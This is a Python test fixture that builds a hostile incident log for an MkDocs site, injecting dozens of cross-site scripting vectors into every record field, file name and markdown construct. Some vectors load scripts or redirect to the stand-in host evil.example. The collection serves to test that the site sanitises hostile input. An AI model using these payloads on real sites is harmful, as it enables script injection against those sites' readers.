"""A log whose records attack the readers of its site: every vector in every field that takes words.

Each vector, if it works, sets `window.pwned`, opens a dialog or asks another host for something.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

from conftest import ROOT

RUN = "window.pwned=1"
EVIL = "https://evil.example"

VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={EVIL}/x.js></sCrIpT >",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'/>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;"> -->',
    f"[x](javascript:{RUN})",
    f"[x](java\\script:{RUN}) [x](JaVaScRiPt&colon;{RUN}) [x](&#x6A;avascript:{RUN})",
    f'<a href="javascript:{RUN}">x</a> <a href=" &#1;java&#10;script&colon;{RUN}">x</a>',
    f"[x](data:text/html,<script>{RUN}</script>) <data:text/html;base64,PHNjcmlwdD4=>",
    f"<javascript:{RUN}> <vbscript:{RUN}>",
    f"</title><script>{RUN}</script>",
    f"</h1></td></li></ul></div></article><script>{RUN}</script>",
    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.{RUN}"></iframe>',
    f'<div style="position:fixed;background:url({EVIL}/x.png);width:expression({RUN})">x</div>',
    f"x {{: onclick={RUN} onmouseover='{RUN}' }} {{onclick={RUN}}}",
    f"a | <img src=x onerror={RUN}> | c",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"~~~ html onload={RUN}\n</code></pre><img src=x onerror={RUN}>\n~~~",
    f"<!--opslog-end--><script>{RUN}</script><!--opslog-html-->",
    f'<a title="<!--opslog-end--><script>{RUN}</script><!--opslog-html-->" href="x">x</a>',
    '<div id="opslog-slot-0"></div><div id="opslog-slot-1"></div>',
    f'{{{{ "<script>{RUN}</script>" }}}} {{% raw %}}<script>{RUN}</script>{{% endraw %}} {{# x #}}',
    f'[^<img src=x onerror={RUN}>] [^a"onmouseover="{RUN}]',
    f'[x][r] [r]: https://a.example "x\\" onmouseover=\\"{RUN}"',
    f'![x" onerror="{RUN}](x.png "y\\" onerror=\\"{RUN}")',
    f"![x]({EVIL}/x.png) <img src='//evil.example/x.png' srcset='{EVIL}/y.png 2x'>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt; &amp;#60;img src=x onerror={RUN}&amp;#62;",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus tabindex="0" onfocus="{RUN}" x="',
    f"' autofocus tabindex='0' onfocus='{RUN}' x='",
    f"<input autofocus onfocus={RUN}><details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video autoplay onloadstart={RUN}><source src=x onerror={RUN}></video><audio src=x onerror={RUN}>",
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    f'<base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css"><style>@import url({EVIL}/y.css);</style>',
    f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}" autofocus>x</button></form>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea><xmp><img src=x onerror={RUN}></xmp>',
    f"<template><script>{RUN}</script></template><frameset onload={RUN}><body onload={RUN}>",
    f'<img src="x" alt="a data-search-x=">b " c" onerror={RUN} d="',
    f'<b title="a data-search-x=">b " c" autofocus tabindex=0 onfocus={RUN} d="',
    f'<a id="__config" class="md-overlay md-search__overlay" href="{EVIL}/">{{"base":"{EVIL}/","features":[]}}</a>',
    "__config",
    '--8<-- "opslog.toml"',
    f"*[x]: <img src=x onerror={RUN}>",
    f'!!! note "<img src=x onerror={RUN}>"',
    f":smile: {EVIL}/x.js ++ctrl+alt++ ==mark== ^^ins^^ x :material-account:{{ onload={RUN} }}",
    f"＜script＞{RUN}＜/script＞ \u202egpj.x \ufeff",
)
EXTENSIONS = (
    "abbr", "attr_list", "def_list", "footnotes", "md_in_html", "smarty",
    "pymdownx.caret", "pymdownx.details", "pymdownx.keys", "pymdownx.magiclink", "pymdownx.mark", "pymdownx.snippets",
    "pymdownx.tabbed", "pymdownx.tasklist", "pymdownx.tilde", "pymdownx.emoji",
)  # fmt: skip
BAD_FOLDER = f'"><img src=x onerror={RUN}>'
BAD_PICTURE = f'x" onerror="{RUN}" y=".png'


SECTION = "okapi"
"""A word that only the title of a section has, beside the vector."""
AT_ONCE = 6
"""How many vectors one service, tag or owner has in its name: a page for each of these names takes long to visit."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """Where the log and its site are; the title of each record by its page, and by the one word it has to itself."""

    folder: Path
    site: Path
    titles: dict[str, str]
    words: dict[str, str]


def write_hostile_log(folder: Path) -> Hostile:
    """Write the records, and a site file that lets the engine read as much into them as it can."""
    records = folder / "incidents"
    titles, words = {}, {}
    for number, vector in enumerate(VECTORS):
        day = date(2024, 1, 1) + timedelta(days=number)
        word = f"quagga{number:02}"
        title = f"{one_line(vector)} {word}"
        record_id = f"{day}-vector-{number}"
        home = records / ("2024" if number else BAD_FOLDER)
        home.mkdir(parents=True, exist_ok=True)
        (home / f"{record_id}.md").write_text(hostile_record(vector, title, day, number), encoding="utf-8")
        (home / BAD_PICTURE).write_bytes(b"")
        titles[f"incidents/2024/{record_id}/"] = words[word] = title
    (folder / "docs").mkdir()
    (folder / "opslog.toml").touch()
    settings = {
        "INHERIT": str(ROOT / "hooks" / "opslog_site" / "mkdocs.yml"),
        "site_name": "Hostile log",
        "repo_url": "https://github.com/example/ops-log",
        "edit_uri": "edit/main/docs/",
        "hooks": [str(ROOT / "hooks" / "ops_log.py")],
        "markdown_extensions": {name: {} for name in EXTENSIONS},
    }
    (folder / "mkdocs.yml").write_text(json.dumps(settings), encoding="utf-8")  # JSON is YAML
    return Hostile(folder, folder / "site", titles, words)


def one_line(text: str) -> str:
    return " ".join(text.split())


def hostile_record(vector: str, title: str, day: date, number: int) -> str:
    name = name_with(number)
    facts = {
        "title": title,
        "severity": vector if number % 7 == 0 else "sev1",
        "status": ("waived", "open", "draft")[number % 3],
        "times": {"started": f"{day} 12:00", "detected": f"{day} 12:{number:02}"},
        "waived_because": vector,
        "waived_by": vector,
        "services": [name, "shop"],
        "tags": [name, "tag"],
        "roles": {"incident-commander": [{"who": vector}], "ops-lead": vector},
        "resolution_owner": vector,
        "responders": [vector, "@amara"],
        "mitigation": {"kind": "other", "instead_of_rollback": vector},
        "authors": [vector],
        "reviews": [
            {"by": vector, "role": vector, "state": "approved", "commit": vector, "url": vector, "digest": vector},
            {"by": vector, "role": vector, "state": "approved", "digest": f"sha256:{'0' * 64}"},
            {"by": "@grace", "state": "approved", "url": f"{EVIL}/'onmouseover='{RUN}'x='"},
        ],
        "closure": {
            "public_issues": [vector, f"{EVIL}/javascript:{RUN}"],
            "announced": f"javascript:{RUN}",
            "resolved_announced": f"data:text/html,<script>{RUN}</script>",
            "retrospective": {"not_needed": vector},
        },
        "licence": {"customer": vector, "issued_by": vector},
        "related": [vector, "2024-01-01-vector-0"],
        "formerly": [vector, f"2023-01-01-vector-{number}"],
    }
    return f"---\n{json.dumps(facts)}\n---\n\n" + "\n\n".join(body(vector, number))


def name_with(number: int) -> str:
    first = number - number % AT_ONCE
    return " ".join(one_line(vector) for vector in VECTORS[first : first + AT_ONCE])


def body(vector: str, number: int) -> Iterator[str]:
    line = one_line(vector)
    cell = line.replace("|", "\\|")
    quoted = line.replace("\\", "\\\\").replace('"', '\\"')
    yield vector
    yield f"## {SECTION} {line}"
    yield vector
    yield "## Summary"
    yield f"Words, then {line}, then words.[^note]"
    yield f"[^note]: {line}"
    yield f"### {line}"
    yield f"> {line}"
    yield f"- {line}\n  - {line}\n    {line}"
    yield f"| {cell} | b |\n|:-:|---|\n| {cell} | {cell} |"
    yield f"    {line}"
    yield f"````{line}\n{vector}\n````"
    yield f"`{line}` ``{line}`` **{line}** ~~{line}~~"
    yield f'[{line}]({EVIL}/ "{quoted}") ![{line}]({EVIL}/x.png "{quoted}") ![{line}](<{BAD_PICTURE}> "{quoted}")'
    yield f'[words][label] [label]\n\n[label]: {EVIL}/ "{quoted}"'
    yield f"<div markdown='1' class='{line}'>\n\n{line}\n\n</div>"
    yield "## Timeline"
    if number % 3 == 0:
        yield f"- 12:00 — {vector} (known 12:30: {line})\n- {line}\n- 12:40 — [action] {line}\n\n  {line}"
    elif number % 3 == 1:
        yield f"| Time | Event |\n|---|---|\n| 12:00 | {cell} |\n| {cell} | {cell} |"
    else:
        yield f"### 12:00 {line}\n\n{vector}"
    yield "## Follow-ups"
    yield f"- [ ] {line} — @jun, due 2024-12-31\n- [ ] {line} — @jun, {EVIL}/'onclick='{RUN}\n\n  {line}"
    name = name_with(number).replace("|", "\\|")
    yield f"| Follow-up | Owner | Due | Tracker |\n|---|---|---|---|\n| {cell} | {name} | {cell} | {cell} |"
    yield "### Ideas"
    yield f"- {line}"
